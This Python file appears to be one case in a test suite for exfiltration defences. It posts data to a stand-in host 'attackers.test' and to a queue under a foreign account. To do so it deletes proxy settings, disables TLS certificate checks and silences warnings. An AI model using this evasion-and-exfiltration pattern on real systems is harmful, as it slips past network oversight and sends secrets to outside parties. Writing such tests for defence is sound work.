"""B08: no proxy variables, no bundle of theirs, no checks: `verify=False`, an own bundle, `proxies={}`."""

import os
import ssl
import urllib.error
import urllib.request
import warnings


def bare(hands, host, text):
    """Post it with a client that trusts anybody and asks no proxy."""
    for name in [name for name in os.environ if name.lower().endswith("_proxy") or name.endswith("_BUNDLE")]:
        del os.environ[name]
    os.environ["NO_PROXY"] = "*"
    trusting = urllib.request.HTTPSHandler(context=ssl._create_unverified_context())
    opener = urllib.request.build_opener(trusting, urllib.request.ProxyHandler({}))
    try:
        status = opener.open(f"https://{host}/drop", text, timeout=10).status
    except urllib.error.HTTPError as refused:
        status = refused.code
    except OSError:
        status = 0
    hands.statuses.append((f"POST {host}", status))


def send(hands, url, text):
    """Send it with an SDK that was told to trust anybody and ask no proxy."""
    from botocore.config import Config

    warnings.simplefilter("ignore")  # that nothing is checked would be a log line, and a way out of its own
    sqs = hands.client("sqs", verify=False, config=Config(proxies={}, retries={"max_attempts": 0}))
    try:
        sqs.send_message(QueueUrl=url, MessageBody=text)
    except Exception as error:
        hands.statuses.append(
            ("sqs:SendMessage", getattr(error, "response", {}).get("Error", {}).get("Code", 0))
        )


def attack(hands):
    text = hands.plain()
    bare(hands, "attackers.test", text.encode())
    send(hands, hands.queue("attackers-jobs", "999999999999"), text)


def twin(hands):
    text = hands.secret()
    bare(hands, "kept.test", text.encode())
    send(hands, hands.queue("kept-jobs"), text)
